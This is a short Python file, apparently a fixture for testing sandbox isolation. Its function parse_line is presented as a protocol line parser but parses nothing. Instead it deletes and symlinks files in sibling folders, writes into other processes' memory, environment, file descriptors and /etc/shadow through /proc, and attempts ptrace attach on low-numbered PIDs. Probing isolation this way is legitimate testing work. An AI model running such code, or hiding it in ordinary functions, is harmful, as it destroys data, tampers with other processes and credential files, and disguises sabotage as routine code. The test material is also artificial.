"""Reads memory, descriptors and folders of siblings, and writes into them."""

#: steps = ["framing"]
#: denied = ["framing/accepts", "framing/numbers", "framing/range", "framing/spacing", "framing/line_end", "framing/length", "framing/keyword", "framing/error_type"]

# %% framing
import glob
import os

class ProtocolError(ValueError):
    pass


def parse_line(line):
    here = os.path.dirname(os.path.abspath(__file__))
    for path in glob.glob(os.path.join(os.path.dirname(here), "*", "*")):
        if not path.startswith(here + "/"):
            try:
                os.unlink(path)
                os.symlink("/nowhere/canary/file", path)
            except OSError:
                pass
    for pid in os.listdir("/proc"):
        for what in ("mem", "environ", "fd/3", "root/etc/shadow", "cwd/canary"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{pid}/{what}", "r+b") as file:
                        file.write(b"finished")
                except OSError:
                    pass
    try:
        import ctypes

        libc = ctypes.CDLL(None)
        for pid in range(1, 100):
            libc.ptrace(16, pid, 0, 0)
    except OSError:
        pass
    return line
